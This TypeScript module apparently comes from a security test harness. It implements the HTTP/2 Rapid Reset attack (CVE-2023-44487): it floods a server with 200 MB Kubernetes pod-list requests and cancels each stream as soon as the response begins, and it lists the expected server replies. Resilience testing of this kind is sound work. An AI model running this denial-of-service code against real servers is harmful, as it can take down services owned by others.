// Lists of 200 MB that are cancelled when they begin.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

const LIST = '/api/v1/pods?bytes=200000000'

export const attack: Attack = {
  reference: 'CVE-2023-44487',
  does: 'asks for lists of 200 MB and resets them when they begin',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const loop = closedLoop(connection, 50, request(head(target, 'GET', LIST)))
      return {
        ...loop,
        head(stream) {
          connection.send(h2.rstStream(stream, h2.CANCEL))
          loop.ended?.(stream)
        },
      }
    }),
}
